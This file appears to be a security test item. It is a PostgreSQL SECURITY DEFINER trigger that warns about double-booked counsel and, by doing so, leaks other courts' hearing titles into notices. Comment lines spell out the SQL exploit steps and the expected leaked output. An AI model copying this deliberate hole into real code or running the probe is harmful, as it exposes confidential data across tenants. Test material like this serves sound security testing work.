-- A court reads the hearing of another court at the same hour, because the warning about a counsel who is
-- booked twice is gathered with the owner's rights.
-- about: warn_counsel, hearings, notices
-- as: hf_docketbell_app
-- exploit: SET docket.court = 'AL-01';
-- exploit: INSERT INTO cal.hearings (court_code, hearing_no, case_no, room_no, during, counsel_bar_no, title)
-- exploit: VALUES ('AL-01', 2, '26-1', 1, '[2026-05-01 09:30, 2026-05-01 09:40)', 'BAR-9', 'probe');
-- exploit: SELECT body FROM cal.notices;
-- shows: Road-secret hearing
CREATE FUNCTION cal.warn_counsel() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = cal, pg_temp AS $$
BEGIN
  INSERT INTO cal.notices (court_code, hearing_no, body)
  SELECT NEW.court_code, NEW.hearing_no, 'Counsel is also at: ' || h.title
  FROM cal.hearings h
  WHERE h.counsel_bar_no = NEW.counsel_bar_no AND h.during && NEW.during
    AND (h.court_code, h.hearing_no) <> (NEW.court_code, NEW.hearing_no);
  RETURN NULL;
END $$;
REVOKE ALL ON FUNCTION cal.warn_counsel() FROM PUBLIC;
CREATE TRIGGER warn_counsel AFTER INSERT ON cal.hearings
  FOR EACH ROW EXECUTE FUNCTION cal.warn_counsel();
